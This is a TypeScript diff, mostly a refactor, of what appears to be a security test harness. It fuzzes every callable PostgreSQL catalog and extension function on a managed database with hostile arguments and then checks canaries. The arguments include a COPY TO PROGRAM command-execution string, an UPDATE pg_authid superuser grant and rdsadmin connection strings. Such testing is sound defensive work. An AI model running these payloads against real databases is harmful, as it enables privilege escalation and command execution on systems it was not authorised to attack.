@@ -7,14 +7,16 @@ interface Routine {
 }
 
 /** Texts that are worth something where a function takes them for a file, a program, SQL, a setting or a connection. */
-const hostileTexts = ({ canaries }: Target): string[] => [
-  canaries.secret,
-  `COPY (SELECT 1) TO PROGRAM '${canaries.program}'`,
-  `UPDATE pg_authid SET rolsuper = true WHERE rolname = 'postgres'`,
-  'dbname=rdsadmin user=rdsadmin',
-  'pg_authid',
-  'rdsadmin',
-];
+function hostileTexts({ canaries }: Target): string[] {
+  return [
+    canaries.secret,
+    `COPY (SELECT 1) TO PROGRAM '${canaries.program}'`,
+    `UPDATE pg_authid SET rolsuper = true WHERE rolname = 'postgres'`,
+    'dbname=rdsadmin user=rdsadmin',
+    'pg_authid',
+    'rdsadmin',
+  ];
+}
 
 /** Numbers that mean something to a function: rdsadmin, catalogs, functions that read files, guarded roles. */
 const hostileNumbers = [
@@ -26,9 +28,11 @@ const hostileNumbers = [
   `'rdsadmin'::regrole::oid`,
 ];
 
-const isText = (type: string) => /^(text|name|cstring|character varying|character|bpchar|"char")$/.test(type);
+function isText(type: string) {
+  return /^(text|name|cstring|character varying|character|bpchar|"char")$/.test(type);
+}
 
-const literal = (type: string, target: Target, round: number): string => {
+function literal(type: string, target: Target, round: number): string {
   if (type === 'internal') return 'NULL';
   if (/^any|^record$|^trigger$|^event_trigger$|handler$/.test(type)) return `'x'::text`;
   const texts = hostileTexts(target);
@@ -36,21 +40,24 @@ const literal = (type: string, target: Target, round: number): string => {
   if (isText(type)) return `${quoted}::${type}`;
   if (type === 'oid') return hostileNumbers[round % hostileNumbers.length] ?? '10';
   if (/^reg/.test(type)) return `${hostileNumbers[round % hostileNumbers.length]}::${type}`;
-  if (/^(smallint|integer|bigint|numeric|real|double precision|xid|cid|xid8)$/.test(type))
+  if (/^(smallint|integer|bigint|numeric|real|double precision|xid|cid|xid8)$/.test(type)) {
     return `'${round}'::${type}`;
+  }
   if (type === 'boolean') return 'true';
   if (type === 'bytea') return `convert_to(${quoted}, 'UTF8')`;
   if (/\[\]$/.test(type)) return isText(type.slice(0, -2)) ? `ARRAY[${quoted}]::${type}` : `'{}'::${type}`;
   return `NULL::${type}`;
-};
+}
 
 // They end or hold up the session that calls them, which is what they are for.
 const LEFT_OUT = /^(pg_sleep|pg_sleep_for|pg_sleep_until|pg_terminate_backend|pg_advisory_.*lock.*)$/;
 
-const quoteName = (name: string) => `"${name.replaceAll('"', '""')}"`;
+function quoteName(name: string) {
+  return `"${name.replaceAll('"', '""')}"`;
+}
 
 /** Functions of the catalogs and of extensions that the master user may call, with any types that can be given. */
-const listRoutines = async (target: Target, schemas: string): Promise<Routine[]> => {
+async function listRoutines(target: Target, schemas: string): Promise<Routine[]> {
   const rows = await target.rows(
     `SELECT nspname AS schema, proname AS name, prokind AS kind,
        array_to_json(ARRAY(SELECT format_type(t, NULL) FROM unnest(proargtypes) AS t)) AS types
@@ -65,12 +72,12 @@ const listRoutines = async (target: Target, schemas: string): Promise<Routine[]>
       kind,
       types: types as unknown as string[],
     }));
-};
+}
 
 const BETWEEN_CHECKS = 100;
 
 /** Calls all of them, with the arguments that could do the most harm. */
-export const attackFunctions = async (target: Target, schemas: string): Promise<number> => {
+export async function attackFunctions(target: Target, schemas: string): Promise<number> {
   const routines = await listRoutines(target, schemas);
   for (const [index, { name, kind, types }] of routines.entries()) {
     const rounds = types.some(isText) ? hostileTexts(target).length : types.length > 0 ? 2 : 1;
@@ -82,4 +89,4 @@ export const attackFunctions = async (target: Target, schemas: string): Promise<
   }
   await target.check(`functions in ${schemas}`);
   return routines.length;
-};
+}
